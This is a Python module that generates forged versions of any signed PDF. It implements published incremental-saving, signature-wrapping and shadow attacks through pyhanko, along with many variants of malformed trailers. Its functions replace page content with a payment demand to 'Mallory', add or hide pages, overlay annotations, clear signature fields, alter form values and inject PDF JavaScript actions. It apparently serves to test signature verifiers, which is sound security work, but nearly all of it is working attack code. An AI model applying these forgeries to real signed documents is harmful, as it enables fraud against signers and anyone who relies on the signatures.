"""Published attacks on signed PDFs, applied to any signed file; none needs a key.

Classes: incremental saving and universal forgery and signature wrapping (Mladenov et al., 2019),
shadow attacks (Mainka et al., 2021), certified documents (Rohlmann et al., 2021), and what
parsers of different programs make of files that are slightly wrong.
"""

import re
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader

EVIL = b"BT /F1 18 Tf 50 700 Td (Pay 900000 rubles to Mallory) Tj ET"
EVIL_STREAM = b"<</Length %d>>stream\n%s\nendstream" % (len(EVIL), EVIL)
EVIL_PAGE = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Contents %d 0 R>>"
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"

Attack = Callable[["Victim"], bytes | None]
"""None where the file has nothing that this attack needs."""

ATTACKS: dict[str, Attack] = {}


def attack(name: str) -> Callable[[Attack], Attack]:
    def kept(attack: Attack) -> Attack:
        ATTACKS[name] = attack
        return attack

    return kept


def written(found: Any) -> bytes:
    out = BytesIO()
    found.write_to_stream(out, None)
    return out.getvalue()


@dataclass
class Victim:
    """A signed file and the numbers an attacker needs."""

    data: bytes

    def __post_init__(self) -> None:
        self.reader = PdfFileReader(BytesIO(self.data), strict=False)
        self.size = int(self.reader.trailer["/Size"])
        self.last = int(re.findall(rb"startxref\s+(\d+)", self.data)[-1])
        self.root = self.reader.root_ref
        self.pages = self.reader.root.raw_get("/Pages").reference
        node = self.reader.root.raw_get("/Pages")
        while "/Kids" in node.get_object():
            node = node.get_object()["/Kids"].raw_get(0)
        self.page_ref, self.page = node.reference, node.get_object()
        self.fields = self.reader.root["/AcroForm"]["/Fields"]

    def contents(self) -> Any:
        """The reference of the first page's content; None if it has none."""
        found = self.page.get("/Contents")
        if isinstance(found, generic.IndirectObject):
            target = found.get_object()
            if isinstance(target, generic.ArrayObject):
                return target.raw_get(0).reference
            return found.reference
        return found.raw_get(0).reference if found else None

    def changed(self, holder: Any, **changes: bytes) -> bytes:
        """The dictionary as bytes with keys replaced by raw values."""
        text = b"<<"
        for key, value in holder.items():
            if key[1:] not in changes:
                text += written(key) + b" " + written(value) + b" "
        return text + b"".join(b"/%s %s " % (k.encode(), v) for k, v in changes.items()) + b">>"

    def append(
        self,
        objects: dict[int, bytes],
        *,
        root: int | None = None,
        extra: bytes = b"",
        prev: int | None = None,
        tail: str = "whole",
        rows: bytes = b"",
        before: bytes = b"",
        generation: int = 0,
    ) -> bytes:
        """An incremental update with a table; `tail` names what is wrong with its end."""
        out = bytearray(self.data)
        if not out.endswith(b"\n"):
            out += b"\n"
        out += before
        table = b"xref\n"
        for number, body in objects.items():
            table += b"%d 1\n%010d %05d n \n" % (number, len(out), generation)
            out += b"%d %d obj\n%s\nendobj\n" % (number, generation, body)
        place = len(out)
        trailer = b"<</Size %d/Root %d 0 R/Prev %d%s>>" % (
            max([self.size, *(n + 1 for n in objects)]),
            root or self.root.idnum,
            self.last if prev is None else prev,
            extra,
        )
        whole = table + rows + b"trailer\n" + trailer + b"\n"
        endings = {
            "whole": whole + b"startxref\n%d\n%%%%EOF\n" % place,
            "no eof": whole + b"startxref\n%d\n" % place,
            "no startxref": whole + b"%%EOF\n",
            "old startxref": whole + b"startxref\n%d\n%%%%EOF\n" % self.last,
            "no table": b"startxref\n%d\n%%%%EOF\n" % self.last,
            "nothing": b"",
            "eof only": b"%%EOF\n",
            "broken trailer": table + b"trailer\n" + trailer[:-2] + b"\nstartxref\n%d\n" % place,
            "broken trailer, eof": table
            + b"trailer\n"
            + trailer[2:]
            + b"\nstartxref\n%d\n%%%%EOF\n" % place,
            "in a comment": b"%" + whole + b"startxref\n%d\n%%%%EOF\n" % (place + 1),
            "comment at number": whole + b"startxref\n%d %% higher\n%%%%EOF\n" % place,
            "trailer only": b"trailer\n" + trailer + b"\n%%EOF\n",
        }
        return bytes(out) + endings[tail]

    def evil_content(self, **options: Any) -> bytes | None:
        """The shown text replaced."""
        found = self.contents()
        number = found.idnum if found is not None else None
        if number is None:
            body = self.changed(self.page, Contents=b"%d 0 R" % self.size)
            return self.append({self.page_ref.idnum: body, self.size: EVIL_STREAM}, **options)
        return self.append({number: EVIL_STREAM}, **options)

    def evil_root(self, **changes: bytes) -> bytes:
        """Keys of the catalog replaced."""
        return self.append({self.root.idnum: self.changed(self.reader.root, **changes)})

    def signature(self) -> tuple[int, int, int, int]:
        """The last ByteRange of the file."""
        found = re.findall(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)", self.data)[-1]
        return tuple(int(one) for one in found)  # type: ignore[return-value]  # four of them


for _tail in (
    *("whole", "no eof", "no startxref", "old startxref", "no table", "nothing", "eof only"),
    *("broken trailer", "broken trailer, eof", "in a comment", "comment at number"),
    "trailer only",
):
    ATTACKS[f"isa: content, {_tail}"] = lambda v, tail=_tail: v.evil_content(tail=tail)


@attack("isa: page tree")
def _page_tree(v: Victim) -> bytes:
    page, text = v.size, v.size + 1
    tree = v.changed(v.pages.get_object(), Kids=b"[%d 0 R]" % page)
    return v.append(
        {v.pages.idnum: tree, page: EVIL_PAGE % (v.pages.idnum, text), text: EVIL_STREAM}
    )


@attack("isa: page added")
def _page_added(v: Victim) -> bytes:
    kids = written(v.pages.get_object()["/Kids"]).strip()[:-1] + b" %d 0 R]" % v.size
    tree = v.changed(v.pages.get_object(), Kids=kids, Count=b"9")
    return v.append(
        {
            v.pages.idnum: tree,
            v.size: EVIL_PAGE % (v.pages.idnum, v.size + 1),
            v.size + 1: EVIL_STREAM,
        }
    )


@attack("isa: page dictionary")
def _page_dictionary(v: Victim) -> bytes:
    body = v.changed(v.page, Contents=b"%d 0 R" % v.size)
    return v.append({v.page_ref.idnum: body, v.size: EVIL_STREAM})


@attack("isa: contents array")
def _contents_array(v: Victim) -> bytes:
    old = b"%d 0 R" % v.contents().idnum if v.contents() else b""
    body = v.changed(v.page, Contents=b"[%s %d 0 R]" % (old, v.size))
    return v.append({v.page_ref.idnum: body, v.size: EVIL_STREAM})


@attack("isa: page turned")
def _turned(v: Victim) -> bytes:
    return v.append({v.page_ref.idnum: v.changed(v.page, Rotate=b"180")})


@attack("isa: page cut")
def _cut(v: Victim) -> bytes:
    return v.append({v.page_ref.idnum: v.changed(v.page, CropBox=b"[0 0 50 50]")})


@attack("isa: catalog moved")
def _catalog_moved(v: Victim) -> bytes:
    body = v.changed(v.reader.root, Pages=b"%d 0 R" % (v.size + 1))
    return v.append(
        {
            v.size: body,
            v.size + 1: b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (v.size + 2),
            v.size + 2: EVIL_PAGE % (v.size + 1, v.size + 3),
            v.size + 3: EVIL_STREAM,
        },
        root=v.size,
    )


@attack("isa: catalog without the form")
def _catalog_bare(v: Victim) -> bytes:
    return v.append({v.root.idnum: b"<</Type/Catalog/Pages %d 0 R>>" % v.pages.idnum})


@attack("isa: font redefined")
def _font(v: Victim) -> bytes | None:
    fonts = v.page.get("/Resources")
    fonts = fonts.get_object() if fonts is not None else {}
    named = fonts.get("/Font")
    for one in (named.get_object() if named is not None else {}).values():
        if isinstance(one, generic.IndirectObject):
            return v.append(
                {one.idnum: v.changed(one.get_object(), BaseFont=b"/Symbol", ToUnicode=b"null")}
            )
    return None


@attack("isa: annotation over the text")
def _annotation(v: Victim) -> bytes:
    note, look = v.size, v.size + 1
    body = v.changed(v.page, Annots=b"[%d 0 R]" % note)
    return v.append(
        {
            v.page_ref.idnum: body,
            note: b"<</Type/Annot/Subtype/FreeText/Rect[40 690 400 720]/Contents(900000)"
            b"/AP<</N %d 0 R>>>>" % look,
            look: b"<</Type/XObject/Subtype/Form/BBox[0 0 360 30]/Length 24>>stream\n"
            b"1 1 1 rg 0 0 360 30 re f\nendstream",
        }
    )


@attack("isa: annotation added beside the others")
def _annotation_beside(v: Victim) -> bytes | None:
    found = v.page.get("/Annots")
    if found is None:
        return None
    text = written(found.get_object()).strip()[:-1] + b" %d 0 R]" % v.size
    note = b"<</Type/Annot/Subtype/Text/Rect[0 0 20 20]/Contents(Not true)>>"
    if isinstance(found, generic.IndirectObject):
        return v.append({found.idnum: text, v.size: note})
    return v.append({v.page_ref.idnum: v.changed(v.page, Annots=text), v.size: note})


for _name, _keys in {
    "isa: layers": {
        "OCProperties": b"<</OCGs[]/D<</BaseState/OFF>>>>",
    },
    "isa: script at opening": {"OpenAction": SCRIPT},
    "isa: further actions": {"AA": b"<</WC %s>>" % SCRIPT},
    "isa: named scripts": {"Names": b"<</JavaScript<</Names[(a) %s]>>>>" % SCRIPT},
    "isa: attachment": {"Names": b"<</EmbeddedFiles<</Names[]>>>>"},
    "isa: page labels": {"PageLabels": b"<</Nums[0<</P(9)>>]>>"},
    "isa: viewer": {"ViewerPreferences": b"<</HideMenubar true>>"},
    "isa: collection": {"Collection": b"<</View/D>>"},
    "isa: permissions": {"Perms": b"<<>>"},
}.items():
    ATTACKS[_name] = lambda v, keys=_keys: v.evil_root(**keys)


def signature_field(v: Victim) -> Any:
    return next(
        one
        for one in v.fields
        if one.get_object().get("/FT") == "/Sig" and "/V" in one.get_object()
    )


@attack("isa: look of the signature")
def _look(v: Victim) -> bytes:
    field = signature_field(v)
    body = v.changed(field.get_object(), AP=b"<</N %d 0 R>>" % v.size, Rect=b"[50 650 550 750]")
    look = (
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Length 17>>stream\n"
        b"0 g 0 0 9 9 re f \nendstream"
    )
    return v.append({field.idnum: body, v.size: look})


@attack("isa: look of the signature, same place")
def _look_in_place(v: Victim) -> bytes | None:
    found = signature_field(v).get_object()
    if "/AP" not in found:
        return None
    stream = found["/AP"].raw_get("/N")
    return v.append({stream.idnum: EVIL_STREAM})


@attack("isa: signature dictionary again")
def _signature_again(v: Victim) -> bytes:
    value = signature_field(v).get_object().raw_get("/V")
    return v.append({value.idnum: v.changed(value.get_object(), Reason=b"(agreed)")})


@attack("isa: signature cleared")
def _cleared(v: Victim) -> bytes:
    field = signature_field(v)
    return v.append({field.idnum: v.changed(field.get_object(), V=b"null")})


@attack("isa: signature field removed")
def _removed(v: Victim) -> bytes:
    form = v.reader.root.raw_get("/AcroForm")
    body = v.changed(form.get_object(), Fields=b"[]")
    if isinstance(form, generic.IndirectObject):
        return v.append({form.idnum: body})
    return v.evil_root(AcroForm=body)


@attack("shadow: form value")
def _value(v: Victim) -> bytes | None:
    for one in v.fields:
        if one.get_object().get("/FT") == "/Tx":
            return v.append({one.idnum: v.changed(one.get_object(), V=b"(900000)")})
    return None


@attack("shadow: form look")
def _value_look(v: Victim) -> bytes | None:
    for one in v.fields:
        if one.get_object().get("/FT") == "/Tx":
            body = v.changed(one.get_object(), AP=b"<</N %d 0 R>>" % v.size)
            return v.append({one.idnum: body, v.size: EVIL_STREAM})
    return None


@attack("shadow: form drawn anew")
def _drawn_anew(v: Victim) -> bytes:
    form = v.reader.root.raw_get("/AcroForm")
    body = v.changed(form.get_object(), NeedAppearances=b"true", DA=b"(/F1 0 Tf 1 g)")
    if isinstance(form, generic.IndirectObject):
        return v.append({form.idnum: body})
    return v.evil_root(AcroForm=body)


@attack("shadow: xfa")
def _xfa(v: Victim) -> bytes:
    form = v.reader.root.raw_get("/AcroForm")
    body = v.changed(form.get_object(), XFA=b"(<xdp/>)")
    if isinstance(form, generic.IndirectObject):
        return v.append({form.idnum: body})
    return v.evil_root(AcroForm=body)


@attack("shadow: new text field")
def _new_field(v: Victim) -> bytes:
    form = v.reader.root.raw_get("/AcroForm")
    fields = written(form.get_object()["/Fields"]).strip()[:-1] + b" %d 0 R]" % v.size
    body = v.changed(form.get_object(), Fields=fields)
    field = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(n)/V(900000)/Rect[50 690 300 720]>>"
    holder = form.idnum if isinstance(form, generic.IndirectObject) else v.root.idnum
    if holder == v.root.idnum:
        body = v.changed(v.reader.root, AcroForm=body)
    return v.append({holder: body, v.size: field})
